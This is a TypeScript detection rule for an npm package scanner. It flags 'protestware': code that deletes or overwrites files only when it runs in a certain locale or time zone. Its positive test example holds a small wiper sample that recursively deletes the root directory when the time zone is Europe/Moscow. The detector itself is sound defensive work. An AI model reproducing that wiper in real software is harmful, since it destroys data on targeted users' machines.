import type { JsRule } from '../../analysis/javascript/context.js';
import { at, eventTrigger } from '../../analysis/javascript/context.js';
import { defineRule } from '../types.js';

/** Destructive file operations gated on locale, time zone or geolocation. */
export const protestware: JsRule = defineRule({
  meta: {
    id: 'npm/protestware',
    kind: 'threat',
    category: 'impact',
    severity: 'critical',
    confidence: 'high',
    ecosystems: ['npm'],
    description: 'Files are deleted or overwritten only on machines in a given country, locale or time zone (protestware / targeted wiper).',
    examples: {
      positive: [{ files: { 'package.json': '{"name":"p"}', 'index.js': "const fs=require('fs');const tz=Intl.DateTimeFormat().resolvedOptions().timeZone;if(tz==='Europe/Moscow'){fs.rmSync('/',{recursive:true});}" } }],
      negative: [{ files: { 'package.json': '{"name":"p"}', 'index.js': "const tz=Intl.DateTimeFormat().resolvedOptions().timeZone;if(tz==='Europe/Moscow'){console.log('hi');}" } }],
    },
  },
  check(ctx, report) {
    for (const file of ctx.files) {
      const gate = file.facts.events.find((e) => e.kind === 'geo-gate');
      if (gate === undefined) continue;
      const destructive = file.facts.events.find((e) => e.sink === 'fs-delete' || e.sink === 'fs-write');
      if (destructive === undefined) continue;
      report(at(file, gate, `Branches on locale/time zone/country (${gate.text?.slice(0, 60) ?? ''}) in a file that deletes or overwrites files (line ${destructive.line}).`, { trigger: eventTrigger(file, destructive) === 'call' ? 'call' : 'import' }));
    }
  },
});
